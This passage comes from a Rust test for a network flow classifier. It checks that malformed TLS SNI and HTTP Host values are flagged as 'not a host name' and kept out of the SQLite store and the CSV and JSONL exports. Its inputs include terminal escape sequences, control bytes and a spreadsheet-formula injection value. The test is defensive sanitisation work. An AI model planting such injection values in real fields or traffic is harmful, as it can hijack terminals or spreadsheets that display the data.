            b"\x1b[2J\x1b[31mwww.bbc.co.uk".to_vec(),
        ),
        ("a DEL byte", b"www.bbc\x7f.co.uk".to_vec()),
        ("a space", b"www.bbc.co.uk evil".to_vec()),
        ("a tab", b"www.bbc.co.uk\tevil".to_vec()),
        ("a 64-byte label", label_64.into_bytes()),
        ("254 bytes", name_254.into_bytes()),
        ("an empty label", b"www..bbc.co.uk".to_vec()),
        ("a spreadsheet formula", hyperlink.to_vec()),
        ("raw UTF-8", "www.bücher.example".as_bytes().to_vec()),
        ("bytes that are not UTF-8", b"www.\xff\xfe.example".to_vec()),
    ];
    let mut harness = Harness::new();
    let mut failures = Vec::new();
    let mut records = Vec::new();
    for (i, (case, sni)) in tls_cases.iter().enumerate() {
        let port = 41600 + i as u16;
        let hello = Hello::new().sni_bytes(sni).bytes();
        harness.send(&tcp_flow(port, 443, &hello, 1448));
        let key = key(ip_proto::TCP, port, 443);
        records.push((*case, harness.record(&key)));
        // A daemon started after this one died reads the kernel's copy: the same.
        let kept = harness.kept_names(&key);
        if kept.as_ref().and_then(|n| n.first.as_ref()) != Some(&Name::NotAHostName) {
            failures.push(format!("{case}: the kernel's copy reads as {kept:?}"));
        }
    }
    // An HTTP Host the parser takes (no blank, no control byte) that is no host name.
    let port = 41690;
    let request = [&b"GET / HTTP/1.1\r\nHost: "[..], hyperlink, b"\r\n\r\n"].concat();
    harness.send(&tcp_flow(port, 80, &request, 1448));
    records.push((
        "a formula as HTTP Host",
        harness.record(&key(ip_proto::TCP, port, 80)),
    ));

    for (case, record) in &records {
        let method = if case.contains("HTTP") { "host" } else { "sni" };
        let got = (
            record.name.as_deref(),
            record.second_name.as_deref(),
            record.method.as_str(),
            record.evasion.iter().any(|n| n == names::NOT_A_HOST_NAME),
        );
        if got != (None, None, method, true) {
            failures.push(format!(
                "{case}: recorded as (name, second name, method, not-a-host-name) {got:?}"
            ));
        }
    }

    // What leaves the gateway: the store and its exports carry none of the bytes.
    let dir = std::env::temp_dir().join(format!("classifier-not-names-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let exported = (|| -> anyhow::Result<Vec<u8>> {
        let mut store = classifier_user::store::FlowStore::open(&dir.join("flows.sqlite"))?;
        let flows: Vec<FlowRecord> = records.iter().map(|(_, r)| r.clone()).collect();
        store.insert(&flows)?;
        let stored = store.query(&classifier_user::store::Filter::default())?;
        anyhow::ensure!(stored.len() == flows.len(), "{} stored", stored.len());
        let mut out = Vec::new();
        for format in [
            classifier_user::export::Format::Csv,
            classifier_user::export::Format::Jsonl,
        ] {
            out.extend(classifier_user::export::encode(&stored, format)?);
        }
        Ok(out)
    })();
    let _ = std::fs::remove_dir_all(&dir);
    let exported = exported.expect("the records go through SQLite and the exports");
    let text = String::from_utf8_lossy(&exported);
    for needle in [
        "HYPERLINK",
        "evil",
        "forged",
        "\u{1b}",
        "\0",
        "bücher",
        "365",
    ] {
        if text.contains(needle) {
            failures.push(format!("the exports carry {needle:?}"));
        }
    }
    assert!(
        text.contains(names::NOT_A_HOST_NAME),
        "the exports say so: {text}"
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
